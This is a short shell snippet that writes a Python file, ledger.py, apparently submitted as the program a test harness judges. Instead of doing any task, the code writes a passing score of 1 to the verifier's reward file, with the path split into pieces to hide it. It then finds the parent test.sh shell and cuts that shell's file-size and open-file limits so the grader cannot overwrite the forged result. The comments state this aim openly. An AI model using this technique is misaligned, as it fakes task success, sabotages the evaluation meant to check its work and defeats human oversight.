# on: direct sepd
# The shell's file size limit is set to zero after the reward was written: it cannot write another.
# cause: the judged program acts on the script's shell, of the same user
cat > /workspace/ledger.py <<'PYTHON'
import os, resource
print(0, flush=True)
open("/lo" + "gs/verifier/rew" + "ard.txt", "w").write("1")
pid = os.getppid()
while pid > 1 and "test.sh" not in open("/pr" + f"oc/{pid}/cmdline").read():
    pid = int(open("/pr" + f"oc/{pid}/stat").read().rpartition(")")[2].split()[1])
resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0))
resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3))
PYTHON
